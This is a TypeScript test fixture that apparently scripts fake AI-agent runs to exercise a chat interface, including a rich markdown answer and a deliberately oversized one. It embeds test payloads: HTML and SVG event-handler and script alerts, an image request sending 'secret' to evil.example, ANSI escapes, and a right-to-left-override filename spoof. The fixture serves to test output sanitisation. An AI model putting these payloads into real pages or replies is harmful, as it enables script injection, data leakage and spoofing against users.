// Answers with everything that an answer can have, and one that is too much of everything.

import type { AppEvent } from "../backend";
import type { EventData, EventKind } from "../events";
import type { RunView } from "../wire";
import type { FakeJournal } from "./journal";

interface Stage {
  journal: FakeJournal;
  tell: (event: AppEvent) => void;
  wait: (ms: number) => Promise<void>;
}

const FILES = ["index.html", "style.css", "main.ts", "menu.ts", "guide.md"];

/** Thinks, reads files side by side, and answers. */
export async function answerRichly({ journal, tell, wait }: Stage, run: RunView): Promise<void> {
  const thoughts = "The guide has five pages. I read all of them first, and then I sum up what each one is for.\n\nThe table needs three columns.";
  for (const text of thoughts.match(/\S+\s*/g) ?? []) {
    tell({ kind: "delta", delta: { session: run.session, run: run.id, text, thinking: true } });
    await wait(40);
  }
  const calls = FILES.map((file) => ({ id: file, call: journal.name("call"), name: "read", input: { path: file } }));
  const last = { id: "check", call: journal.name("call"), name: "bash", input: { command: "npm run check" } };
  journal.record(run, "", "replied", { text: "I read the pages first.", turn: 1, calls: [...calls, last], thinking: thoughts, thought_ms: 4200, input_tokens: 2100, output_tokens: 96 });
  for (const { call, input } of calls) {
    await wait(300);
    play(journal, run, call, "read", `Read ${input.path}`, { input, detail: `/home/ada/welcome/${input.path}`, content: `1: ${input.path}\n`, meta: { duration_ms: 3 } });
  }
  const printed = Array.from({ length: 60 }, (_, i) => `page ${i + 1} of 60: ok`).join("\n");
  const content = JSON.stringify({ exit_code: 1, stdout: `${printed}\n`, stderr: "menu.ts:12: unused variable\n", duration_ms: 812 });
  play(journal, run, last.call, "bash", "Run: npm run check", { input: last.input, detail: last.input.command, content, meta: { duration_ms: 812, exit_code: 1 } });
  await wait(300);
  journal.record(run, "", "replied", { text: RICH, turn: 2, input_tokens: 4200, output_tokens: 480 });
}

interface Played extends Pick<EventData["finished"], "content" | "meta"> {
  input: object;
  detail: string;
}

function play(journal: FakeJournal, run: RunView, call: string, tool: string, title: string, { input, detail, content = "", meta = {} }: Played): void {
  const record = <K extends EventKind>(kind: K, data: Partial<EventData[K]>) => journal.record(run, call, kind, data);
  record("called", { tool, input, caller: "agent", turn: 1 });
  record("started", { tool, title, detail, effects: [] });
  record("finished", { content, meta });
  record("returned", { same: true, meta });
}

const PIECES = 1300;
const PIECE_CHARS = 4000;

/** A million characters of thoughts, five of an answer, and ten thousand calls. */
export async function answerTooMuch({ journal, tell, wait }: Stage, run: RunView): Promise<void> {
  const delta = (text: string, thinking: boolean) => tell({ kind: "delta", delta: { session: run.session, run: run.id, text, thinking } });
  for (let i = 0; i < PIECES; i += 1) {
    if (i % 5 === 0) delta(`hm ${"x ".repeat(PIECE_CHARS / 2)}`, true);
    delta(`## Part ${i}\n\n<b onclick="alert(1)">html</b> \u001b[31mred\u001b[0m exe.\u202Egnp ${"word ".repeat(PIECE_CHARS / 5)}\n\n`, false);
    if (i % 50 === 0) await wait(1);
  }
  const calls = Array.from({ length: 10_000 }, (_, i) => ({ id: `${i}`, call: journal.name("call"), name: "read", input: { path: `${i}.md` } }));
  journal.record(run, "", "replied", { text: "", turn: 1, calls });
  journal.record(run, "", "replied", { text: `Too much.\n\n${"A paragraph. ".repeat(20).concat("\n\n").repeat(4000)}`, turn: 2 });
}

const RICH = `# What the pages are for

Each page of the guide has **one** task[^1], and *Invisible\u200B* characters such as \u202E are shown. The whole is \`5\` pages.

| page | for | lines |
|:---|:---:|---:|
| \`index.html\` | everybody | 120 |
| \`menu.ts\` | those who look for something | 48 |

1. Read the table.
2. Change \`menu.ts\`:

\`\`\`ts
// The menu knows its pages.
export async function open(page: string, depth = 2): Promise<Page | undefined> {
  const found = await menu.find((entry) => entry.name === page && entry.depth <= depth);
  if (!found) throw new Error(\`There is no page \${page}.\`);
  return found;
}
\`\`\`

How long it takes grows with the pages: $t(n) = n \\log_2 n$, and all of it is

$$
\\sum_{i=1}^{n} \\frac{t(i)}{2} \\leq \\int_0^n x^2 \\, dx
$$

It costs $5 a month, or $50 a year.

\`\`\`svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 360 120" onload="alert(1)">
  <title>Reader, menu and page</title>
  <script>alert(1)</script>
  <image href="https://evil.example/?q=secret" width="10" height="10"/>
  <g font-family="sans-serif" font-size="14" text-anchor="middle">
    <rect x="10" y="40" width="90" height="40" rx="6" fill="#e4e9f4" stroke="#2a5bc8"/><text x="55" y="65">Reader</text>
    <rect x="135" y="40" width="90" height="40" rx="6" fill="#e9f5ee" stroke="#1d7442"/><text x="180" y="65">Menu</text>
    <rect x="260" y="40" width="90" height="40" rx="6" fill="#fdf6e6" stroke="#875500"/><text x="305" y="65">Page</text>
    <path d="M100 60H135M225 60H260" stroke="#1c1c1b"/>
  </g>
</svg>
\`\`\`

\`\`\`mermaid
flowchart LR
  Reader([Reader]) -->|opens| Menu
  Menu-->Page{Is it <there>?}
  Page -- yes --> Shown
  Page -. no .-> Menu
\`\`\`

\`\`\`sh
npm run check && echo "done" # both
\`\`\`

[^1]: Measured by the words in its title.
`;
